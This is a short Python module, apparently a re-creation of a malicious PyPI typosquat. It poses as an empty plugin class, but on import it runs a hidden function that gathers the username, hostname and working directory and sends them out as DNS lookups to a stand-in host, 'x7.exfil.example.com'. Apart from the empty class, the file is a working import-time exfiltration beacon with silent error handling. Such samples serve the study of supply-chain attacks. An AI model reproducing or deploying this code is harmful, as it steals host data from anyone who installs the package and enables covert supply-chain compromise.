# Inspired by the DNS-beaconing PyPI typosquats JFrog/Sonatype reported (2021-2023, e.g. 'pptest'-style "dependency confusion" probes) that pack host data into subdomain labels.
import getpass
import os
import socket

_ZONE = "x7." + "exfil" + ".example.com"


def _labels(data: bytes, width=60):
    h = data.hex()
    return [h[i:i + width] for i in range(0, len(h), width)]


def _beacon():
    info = "|".join([getpass.getuser(), socket.gethostname(), os.getcwd()]).encode()
    sid = os.urandom(2).hex()
    for n, chunk in enumerate(_labels(info)):
        try:
            socket.gethostbyname(f"{chunk}.{n}.{sid}.{_ZONE}")
        except socket.gaierror:
            pass


_beacon()


class Plugin:
    pass
